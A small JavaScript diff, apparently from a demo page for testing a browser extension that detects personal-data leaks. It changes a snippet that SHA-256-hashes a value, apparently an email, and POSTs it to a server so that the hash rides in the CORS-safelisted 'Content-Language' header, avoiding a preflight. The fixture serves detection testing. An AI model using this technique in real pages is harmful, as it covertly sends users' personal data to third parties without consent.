@@ -22,7 +22,9 @@
     crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)).then(function (d) {
       var x = new XMLHttpRequest();
       x.open('POST', B);
-      x.setRequestHeader('X-Em', hex(d).toUpperCase());
+      // A CORS-safelisted header: a custom one would need a preflight this demo server does not answer, and the
+      // browser would never send the request (the extension, watching the wire, rightly sees no copy then).
+      x.setRequestHeader('Content-Language', hex(d).toUpperCase());
       x.send('ok');
     });
   }, true);
